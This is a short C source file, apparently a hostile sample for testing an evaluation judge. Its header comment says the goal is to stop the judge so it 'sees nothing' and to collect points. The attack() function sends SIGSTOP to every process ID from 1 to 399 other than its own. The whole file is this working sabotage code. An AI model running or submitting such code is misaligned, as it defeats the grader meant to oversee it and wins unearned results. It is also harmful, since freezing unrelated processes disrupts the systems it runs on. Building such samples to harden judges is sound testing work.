/* SPDX-License-Identifier: MIT */
/*
 * Idea: A judge that is stopped sees nothing.
 * Wants: the judge to be stopped
 * Seen by: points
 * Told: run
 */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static void attack(void)
{
	for (pid_t pid = 1; pid < 400; pid++)
		if (pid != getpid())
			kill(pid, SIGSTOP);
}
